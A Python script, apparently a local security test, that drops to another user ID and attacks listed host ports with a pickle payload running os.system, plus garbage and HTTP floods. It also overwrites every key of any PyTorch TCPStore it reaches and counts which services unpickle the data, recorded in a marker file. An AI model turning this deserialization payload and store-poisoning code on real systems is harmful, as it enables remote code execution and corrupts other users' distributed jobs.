"""Attack the given ports as another user of the same host; see ports.mjs.

Reads "HOST PORT" lines from standard input. Sends pickles, garbage and HTTP, keeps connections open, and writes a
pickle under every key of a TCPStore. A process that unpickles any of it makes the file MARKER. Prints one JSON line of
counts at the end.
"""

import base64
import encodings.idna  # noqa: F401  # before it becomes the other user, who may not read Python's own files
import json
import os
import pickle
import socket
import sys
import threading
from datetime import timedelta

from torch.distributed import TCPStore

marker, uid = sys.argv[1], int(sys.argv[2])
os.setgroups([])
os.setgid(uid)
os.setuid(uid)


class Payload:
    def __reduce__(self):
        return os.system, (f"id -u > {marker}",)


PICKLE = pickle.dumps(Payload())
MESSAGES = [PICKLE, base64.b64encode(PICKLE), os.urandom(4096), b"\x00" * 65536, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"]
counts = {"ports": 0, "connections": 0, "refused": 0, "stores": 0, "keys": 0}
kept = []


def raw(address):
    for message in MESSAGES:
        try:
            connection = socket.create_connection(address, timeout=1)
            connection.sendall(message)
            counts["connections"] += 1
            kept.append(connection)  # a stranger does not hang up
        except OSError:
            counts["refused"] += 1
    del kept[:-64]


def store(address):
    try:
        client = TCPStore(*address, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
        counts["stores"] += 1
        for _ in range(200):
            for key in client.list_keys():
                client.set(key, base64.b64encode(PICKLE).decode())
                counts["keys"] += 1
    except Exception:  # no TCPStore, or it has ended
        counts["refused"] += 1


def main():
    threads = []
    seen = set()
    for line in sys.stdin:
        host, port = line.split()
        address = host, int(port)
        if address not in seen:
            seen.add(address)
            counts["ports"] += 1
            threads.append(threading.Thread(target=store, args=(address,), daemon=True))
            threads[-1].start()
        raw(address)
    print(json.dumps(counts), flush=True)


main()
